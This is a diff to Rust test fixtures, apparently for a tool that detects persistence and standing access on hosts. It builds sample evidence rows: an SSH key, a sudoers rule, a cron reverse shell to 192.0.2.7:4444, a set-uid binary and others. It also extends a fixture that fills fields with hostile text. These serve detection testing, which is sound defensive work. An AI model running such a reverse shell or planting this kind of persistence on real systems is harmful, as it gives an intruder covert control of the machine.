@@ -360,6 +360,45 @@ pub fn remote_picture(target: &str, rows: Vec<Vec<Value>>, doubts: Vec<Doubt>) -
     Picture { subject: Subject::RemoteControl, target: target.into(), rows, doubts }
 }
 
+/// One machine with ways in of every lane, tone and age.
+pub fn standing() -> Judgement {
+    let pictures = vec![standing_picture("lab-07", every_way(), Vec::new())];
+    Judgement { pictures, ..machines(1) }
+}
+
+pub fn standing_picture(target: &str, rows: Vec<Vec<Value>>, doubts: Vec<Doubt>) -> Picture {
+    let columns = ["lane", "tone", "since", "what", "user", "path", "line", "ended"];
+    let rows = evidence(&columns, rows);
+    Picture { subject: Subject::StandingAccess, target: target.into(), rows, doubts }
+}
+
+/// A way that appeared so many days before the sweep; none where nothing says when.
+pub fn way(lane: &str, tone: &str, days: Option<i64>, what: &str, place: &str) -> Vec<Value> {
+    let since = days.map_or(Value::Null, |days| Value::Time(Time(NOON.0 - days * DAY)));
+    let (path, line) = place.split_once(':').unwrap_or((place, ""));
+    let line = line.parse().map_or(Value::Null, Value::Int);
+    let words = [text(what), text("mira"), text(path), line, Value::Time(NOON)];
+    [text(lane), text(tone), since].into_iter().chain(words).collect()
+}
+
+fn every_way() -> Vec<Vec<Value>> {
+    vec![
+        way("keys", "look", Some(3), "key backup@nas ssh-rsa", "/root/.ssh/authorized_keys:4"),
+        way("rights", "alarm", Some(3), "sudo as ALL ALL", "/etc/sudoers.d/90-x:1"),
+        way("starts", "alarm", Some(0), "cron sh -i >& /dev/tcp/192.0.2.7/4444", "/etc/cron.d/x:2"),
+        way(
+            "starts",
+            "usual",
+            Some(400),
+            "backup.service /opt/backup/run",
+            "/etc/systemd/system/backup.service",
+        ),
+        way("programs", "alarm", Some(2000), "set-uid", "/usr/local/bin/报表工具"),
+        way("boot", "look", None, "member etc/init.d/x", "/boot/initrd.img-6.1"),
+        way("accounts", "usual", Some(800), "account mira", "/etc/passwd"),
+    ]
+}
+
 pub fn not_looked() -> Doubt {
     Doubt::NotObserved { table: "host_remote_tools".into() }
 }
@@ -426,6 +465,7 @@ fn chinese_tool() -> Vec<Value> {
 /// Hostile text in every field that a sweep, a policy or a check of a user fills.
 pub fn hostile_everywhere() -> Judgement {
     let mut judgement = remote(7);
+    judgement.pictures.extend(standing().pictures);
     let hostile = format!("{TERMINAL}{SCRIPT}{IMAGE}{FORMULA}");
     judgement.tool_version = hostile.clone();
     for sweep in &mut judgement.sweeps {
@@ -458,7 +498,7 @@ fn hostile_picture(picture: &mut Picture, hostile: &str) {
     for row in &mut picture.rows.rows {
         for (column, cell) in columns.iter().zip(row) {
             *cell = match (column.as_str(), &cell) {
-                ("access" | "way" | "since" | "renamed", _) => continue,
+                ("access" | "way" | "since" | "renamed" | "tone" | "line" | "ended", _) => continue,
                 ("states", _) => text(&format!("{hostile}, {hostile}")),
                 ("ways_in", _) => text(&format!("relay {hostile}; {hostile}")),
                 _ => text(hostile),
